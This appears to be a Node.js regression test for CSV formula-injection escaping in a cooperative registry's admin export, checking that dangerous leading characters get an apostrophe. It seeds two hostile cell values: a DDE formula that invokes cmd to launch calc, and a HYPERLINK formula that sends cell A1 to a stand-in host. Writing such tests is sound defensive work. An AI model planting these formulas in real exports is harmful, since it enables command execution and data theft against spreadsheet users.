// review_export.test.mjs - the registry's CSV export never hands a
// spreadsheet a formula: values that start with = + @ - (unless a plain
// number), a tab or a carriage return get a leading apostrophe. Found in
// review: "-2+3+cmd|' /C calc'!A0" passed as is, the check let any minus
// followed by a digit through.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, sqlite } from './server.mjs';
import { Client, DEMO } from './accounts_helpers.mjs';

const HOSTILE = {
  'SAMPLE-2008-027': "-2+3+cmd|' /C calc'!A0",
  'SAMPLE-2008-029': '\t=HYPERLINK("http://x.example/?"&A1)',
};

test('CSV export neutralises formulas, keeps plain numbers and dashes as they are', async () => {
  const srv = await startServer({
    prepare(db) {
      for (const [reg, name] of Object.entries(HOSTILE))
        sqlite(db, `UPDATE cooperative SET name_fr = '${name.replace(/'/g, "''")}' WHERE reg_number = '${reg}'`);
      sqlite(db, "UPDATE cooperative SET products_fr = '-' WHERE reg_number = 'SAMPLE-2008-027'");
    },
  });
  try {
    const c = new Client(srv.base);
    await c.signIn(...DEMO.admin);
    const r = await c.get('/admin/registry/export?format=csv&col=reg_number&col=name_fr&col=products_fr');
    assert.equal(r.status, 200);
    const rows = r.text.split('\r\n');
    const row = (reg) => rows.find((l) => l.startsWith(reg + ';'));
    assert.equal(row('SAMPLE-2008-027'), `SAMPLE-2008-027;"'-2+3+cmd|' /C calc'!A0";-`);
    assert.equal(row('SAMPLE-2008-029').split(';')[1].slice(0, 3), `"'\t`);
    for (const l of rows.slice(1)) {
      const cells = l.split(';');
      for (const cell of cells) assert.doesNotMatch(cell, /^[=+@\t\r-]./, `cell ${JSON.stringify(cell)} of ${l}`);
    }
  } finally {
    await srv.stop();
  }
});
